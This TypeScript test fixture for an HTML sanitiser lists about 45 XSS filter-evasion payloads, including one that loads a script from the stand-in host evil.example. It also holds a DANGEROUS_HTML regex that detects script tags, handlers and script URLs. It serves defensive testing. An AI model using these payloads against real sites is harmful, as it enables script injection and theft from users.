/** Script-injection attempts against rich text (OWASP filter-evasion cheat sheet and friends). */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<base href="javascript:alert(1)//">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="https://ok.example" target="_top" onmouseover="alert(1)">x</a>',
  '"><img src=x onerror=alert(1)>',
  '<x onclick=alert(1)>click</x>',
];

/**
 * The markup of HTML without its text: what DANGEROUS_HTML is matched against, since a payload
 * kept as text ("javascript:alert(1)" written in a paragraph, entities and all) is inert.
 */
export const markupOf = (html: string) => html.replace(/>[^<]*</g, '><').replace(/^[^<]*/, '').replace(/[^>]*$/, '');

/** What must never be left in sanitised HTML: script, handlers, script URLs, frames, styles. */
export const DANGEROUS_HTML = /<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|video|audio|source|template|body|x\b)|\son[a-z]+\s*=|javascript:|vbscript:|data:text|style\s*=|srcdoc|formaction|background\s*=/i;
